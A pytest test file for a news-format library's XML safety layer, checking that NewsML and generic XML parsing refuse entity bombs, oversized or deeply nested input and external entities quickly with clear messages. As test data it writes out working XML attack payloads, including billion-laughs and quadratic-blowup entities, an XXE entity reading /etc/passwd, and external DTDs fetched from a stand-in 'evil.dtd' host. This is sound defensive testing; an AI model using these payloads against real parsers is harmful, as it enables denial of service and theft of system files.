"""Hostile XML is refused quickly, with a message that says why; harmless XML still reads.

The time bound is generous on purpose: it is a safety check (no entity expansion, no
network, no parsing of oversized input), not a benchmark.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import pytest

from newsbridge.formats.errors import FormatError
from newsbridge.formats.newsml_g2 import NAR, looks_like_newsml, parse_newsml
from newsbridge.formats.xml_safety import parse_xml

SECONDS = 2.0
ITEM = f'<newsItem xmlns="{NAR}" guid="urn:test:hostile" version="1"><contentMeta><headline>&lol9;</headline>' \
       "</contentMeta></newsItem>"
BILLION_LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE newsItem [\n <!ENTITY lol "lol">\n'
                  + "".join(f' <!ENTITY lol{n} "{("&lol" + str(n - 1 or "") + ";") * 10}">\n' for n in range(1, 10))
                  + "]>\n" + ITEM).encode()
QUADRATIC = (f'<!DOCTYPE newsItem [<!ENTITY big "{"x" * 100_000}">]>'
             f'<newsItem xmlns="{NAR}"><headline>{"&big;" * 20_000}</headline></newsItem>').encode()
EXTERNAL_ENTITY = (f'<?xml version="1.0"?><!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                   f'<newsItem xmlns="{NAR}" guid="urn:x"><contentMeta><headline>&xxe;</headline></contentMeta>'
                   "</newsItem>").encode()
EXTERNAL_DTD = (f'<?xml version="1.0"?><!DOCTYPE newsItem SYSTEM "http://192.0.2.1/evil.dtd">'
                f'<newsItem xmlns="{NAR}" guid="urn:x"/>').encode()
PUBLIC_DTD = (b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
              b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>')
PARAMETER_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE newsItem [<!ENTITY % remote SYSTEM "http://192.0.2.1/x.dtd">'
                    b"%remote;]><newsItem/>")
INTERNAL_PARAMETER_ENTITY = b'<!DOCTYPE newsItem [<!ENTITY % pe "<!ENTITY lol \'x\'>"> %pe;]><newsItem>&lol;</newsItem>'


def refused(parse: Callable[[bytes], Any], data: bytes) -> FormatError:
    started = time.perf_counter()
    with pytest.raises(FormatError) as caught:
        parse(data)
    assert time.perf_counter() - started < SECONDS
    assert caught.value.kind == "malformed"
    return caught.value


def parse_any_xml(data: bytes) -> Any:
    return parse_xml(data, format="test")


@pytest.mark.parametrize("parse", [parse_any_xml, parse_newsml], ids=["parse_xml", "parse_newsml"])
@pytest.mark.parametrize(("data", "words"), [
    (BILLION_LAUGHS, ("declares the entity 'lol'", "billion laughs")),
    (QUADRATIC, ("declares the entity 'big'",)),
    (EXTERNAL_ENTITY, ("external entity 'xxe'", 'SYSTEM "file:///etc/passwd"', "XXE")),
    (EXTERNAL_DTD, ("external DTD", "http://192.0.2.1/evil.dtd", "never loaded")),
    (PUBLIC_DTD, ("external DTD", "PUBLIC")),
    (PARAMETER_ENTITY, ("external parameter entity '%remote'",)),
    (INTERNAL_PARAMETER_ENTITY, ("parameter entity '%pe'",)),
], ids=["billion-laughs", "quadratic-blowup", "external-entity", "external-dtd", "public-dtd",
        "external-parameter-entity", "parameter-entity"])
def test_entities_and_dtds_are_refused(parse: Callable[[bytes], Any], data: bytes, words: tuple[str, ...]) -> None:
    error = refused(parse, data)

    assert error.field == "DOCTYPE"
    assert all(word in error.message for word in words), error.message
    assert "remove it" in error.message
    assert "root:" not in error.message  # nothing of /etc/passwd was read


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32"])
def test_entities_are_found_in_wide_encodings(encoding: str) -> None:
    text = BILLION_LAUGHS.decode().replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding}"?>')

    assert "billion laughs" in refused(parse_newsml, text.encode(encoding)).message


def test_a_doctype_behind_comments_and_processing_instructions_is_found() -> None:
    data = b'<?xml version="1.0"?>\n<!-- <!DOCTYPE decoy> -->\n<?note x?>\n' + BILLION_LAUGHS.split(b"?>\n", 1)[1]

    assert "billion laughs" in refused(parse_any_xml, data).message


def test_entities_hidden_after_harmless_declarations_are_found() -> None:
    data = (b'<!DOCTYPE newsItem [<!ELEMENT newsItem ANY> <!ATTLIST newsItem guid CDATA "]>">'
            b' <!-- ]> --> <!ENTITY lol "lol">]><newsItem/>')

    assert "declares the entity 'lol'" in refused(parse_any_xml, data).message


def test_a_50_megabyte_document_is_refused_before_parsing() -> None:
    data = f'<newsItem xmlns="{NAR}"><contentSet><inlineData>'.encode() + b"x" * 50_000_000 \
        + b"</inlineData></contentSet></newsItem>"

    error = refused(parse_newsml, data)
    assert error.field == "file"
    assert f"is {len(data):,} bytes, larger than the limit of 20,000,000 bytes" in error.message


def test_the_size_limit_can_be_set() -> None:
    assert "larger than the limit of 10 bytes" in refused(lambda d: parse_xml(d, format="t", max_bytes=10),
                                                          b"<a>0123456789</a>").message
    assert parse_xml(b"<a>0123456789</a>", format="t", max_bytes=17).text == "0123456789"


def test_a_text_node_over_libxml2s_limit_is_refused() -> None:
    data = b"<a>" + b"x" * 12_000_000 + b"</a>"  # under the size limit, over huge_tree=False's 10 MB text limit

    assert "not well-formed XML at line 1" in refused(parse_any_xml, data).message


def test_deep_nesting_is_refused() -> None:
    data = b"<a>" * 100_000 + b"</a>" * 100_000

    error = refused(parse_any_xml, data)
    assert error.field.startswith("line 1, column ")  # type: ignore[union-attr]
    assert "depth" in error.message.lower()


def test_an_undeclared_entity_is_refused() -> None:
    error = refused(parse_newsml, f'<newsItem xmlns="{NAR}">&nbsp;</newsItem>'.encode())

    assert error.message == "not well-formed XML at line 1, column 61: Entity 'nbsp' not defined"
    assert error.field == "line 1, column 61"


def test_harmless_doctypes_are_still_read() -> None:
    plain = f'<!DOCTYPE newsItem><newsItem xmlns="{NAR}" guid="urn:x"/>'.encode()
    declared = f'<!DOCTYPE newsItem [<!ELEMENT newsItem ANY>]><newsItem xmlns="{NAR}" guid="urn:y"/>'.encode()

    assert [i.uri for i in parse_newsml(plain) + parse_newsml(declared)] == ["urn:x", "urn:y"]
    assert parse_xml(b"<a>&amp;&#65;&#x42;</a>", format="t").text == "&AB"  # predefined and character references


def test_hostile_newsml_is_still_claimed_so_the_refusal_is_clear() -> None:
    assert looks_like_newsml(BILLION_LAUGHS)
    assert looks_like_newsml(EXTERNAL_DTD)


RSS = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:nar="http://iptc.org/std/nar/2006-10-01/">
  <channel><title>Wire</title><item><title>newsItem</title><guid>urn:x</guid>
  <description>&lt;newsItem xmlns="http://iptc.org/std/nar/2006-10-01/"&gt;</description></item></channel>
</rss>"""
ATOM = (b'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom">'
        b"<entry><title>packageItem</title></entry></feed>")


@pytest.mark.parametrize("data", [
    RSS, ATOM,
    b'<newsItem guid="urn:x"/>',  # the right name in no namespace
    b'<newsItem xmlns="http://iptc.org/std/nar/2099-01-01/"/>',  # another namespace
    b'<NewsML xmlns="http://iptc.org/std/NewsML/2003-10-10/"/>',  # NewsML 1
    b"<!-- newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\" --><nitf/>",
    b"newsItem http://iptc.org/std/nar/2006-10-01/",
], ids=["rss", "atom", "no-namespace", "other-namespace", "newsml-1", "comment", "plain-text"])
def test_other_xml_is_not_mistaken_for_newsml(data: bytes) -> None:
    assert not looks_like_newsml(data)
    with pytest.raises(FormatError) as caught:
        parse_newsml(data)
    assert caught.value.kind in ("unknown", "malformed")


def test_rss_is_unknown_not_malformed() -> None:
    with pytest.raises(FormatError) as caught:
        parse_newsml(RSS)
    assert (caught.value.kind, caught.value.field) == ("unknown", "/rss")


@pytest.mark.serial  # timed: run alone, after the parallel run
def test_sniffing_reads_only_the_head() -> None:
    data = f'<newsItem xmlns="{NAR}">'.encode() + b" " * 50_000_000
    started = time.perf_counter()

    assert looks_like_newsml(data)
    assert time.perf_counter() - started < SECONDS


@pytest.mark.parametrize("data", [BILLION_LAUGHS, QUADRATIC, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "quadratic-blowup", "external-entity", "external-dtd",
                              "parameter-entity"])
def test_the_parser_holds_when_the_prolog_scan_misses(monkeypatch: pytest.MonkeyPatch, data: bytes) -> None:
    # Defence in depth: with the DOCTYPE scan switched off, the parser settings and the check
    # of the parsed tree still refuse every attack, without expanding anything.
    monkeypatch.setattr("newsbridge.formats.xml_safety.check_doctype", lambda data, *, format: None)

    assert refused(parse_any_xml, data).message
